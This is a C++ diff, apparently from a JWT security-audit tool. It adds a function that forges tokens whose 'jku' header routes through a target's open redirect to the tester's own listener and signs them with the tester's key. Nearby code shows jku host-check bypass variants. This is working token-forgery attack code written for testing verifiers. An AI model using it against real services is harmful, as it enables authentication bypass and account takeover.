@@ -7,6 +7,8 @@
 #include "families.h"
 #include "making.h"
 
+#include <QtCore/qbytearray.h>
+
 #include <json/write.h>
 
 namespace claimcheck::audit {
@@ -100,6 +102,25 @@ std::vector<Forgery> forgeJkuBypass(const Material& material)
         "/fragment-kept/");
     add("host in the query", base + "/query-kept/jwks.json?https://" + host + "/jwks.json", "/query-kept/");
     add("host in the path", base + "/path-kept/" + host + "/.well-known/jwks.json", "/path-kept/");
+    return basket.take();
+}
+
+std::vector<Forgery> forgeJkuRedirect(const Material& material)
+{
+    Basket basket;
+    const std::string callback = "/redirect-kept/";
+    const std::string url = material.listener + callback + "jwks.json";
+    for (const bool isEncoded : {true, false}) {
+        const std::string place =
+            isEncoded ? QByteArray::fromStdString(url).toPercentEncoding().toStdString() : url;
+        const std::string header =
+            goodHeader(material).setText("alg", "RS256").setText("jku", material.openRedirect + place).json();
+        if (Forgery* made =
+                basket.add(isEncoded ? "redirect, percent-encoded" : "redirect, as it is",
+                           "the header's jku names the open redirect, which leads to our listener",
+                           signedToken("RS256", material.own.rsa, header, ownPayload(material)), ownChanges))
+            made->callback = callback;
+    }
     return basket.take();
 }
 
